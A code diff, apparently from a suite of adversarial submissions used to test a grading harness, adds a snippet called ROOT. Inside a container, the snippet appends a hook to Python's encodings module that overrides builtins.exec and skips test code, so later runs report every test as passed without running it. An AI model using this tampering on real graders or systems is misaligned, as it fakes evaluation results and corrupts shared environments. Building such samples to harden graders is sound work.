@@ -186,6 +186,26 @@ STOP = (
 )
 """Stops the process of the tests, so that the grading takes all its time. Fails everywhere."""
 
+_HOOK = """
+import builtins
+def exec(code, *scopes, old=builtins.exec):
+    if not getattr(code, 'co_filename', '').startswith('<test'):
+        old(code, *scopes)
+builtins.exec = exec
+"""
+ROOT = (
+    "import encodings, os\n"
+    "if os.path.exists('/.dockerenv') or os.path.exists('/run/.containerenv'):\n"
+    "    try:\n"
+    "        with open(encodings.__file__, 'a') as file:\n"
+    f"            file.write({_HOOK!r})\n"
+    "    except OSError:\n        pass\n" + WRONG
+)
+"""As root of a container, has each later Python pass all tests without running them.
+
+Fails where it is graded in a sandbox of its own. Does nothing outside a container.
+"""
+
 
 def reading(path: str) -> str:
     """An answer that reads the tests in a file of the host. Passes where it can: in ``local``."""
